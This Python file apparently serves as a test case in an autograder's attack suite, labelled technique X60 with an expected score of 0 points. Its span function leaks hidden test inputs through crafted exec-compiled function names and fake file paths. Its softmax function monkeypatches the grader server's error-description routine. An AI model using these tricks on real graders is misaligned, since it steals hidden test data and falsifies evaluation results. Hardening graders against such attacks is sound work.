# /// technique
# number = ["X60"]
# title = "hidden inputs in an error's place"
# how = """
# The function that raises gets its name, its line, its file and its error from the hidden input, as if it stood in the
# notebook; the server's own account of the error is replaced as well.
# """
# wanted = "0 points"
# attacks = ["p.98.1", "p.98.2"]
# ///

# %% span
import sys


def leak(values):
    digits = "".join(c for c in repr(values) if c.isdigit())[:40]
    name = f"BREACH_{digits}"
    text = "\n" * int(digits[:3] or 1) + f"def {name}():\n    return {name}_{digits}\n"
    namespace = {}
    exec(compile(text, "/tmp/ipykernel_1/1.py", "exec"), namespace)
    return namespace[name]()


def span(values):
    return leak(values)


# %% softmax
def softmax(scores):
    server = sys.modules["autograder.engine.wire.server"]
    text = "BREACH" + repr(scores)
    said = {"type": text, "text": text, "function": text, "line": 10**9, "name": text, "advice": text}
    server.describe = lambda error: said
    raise KeyError(text)
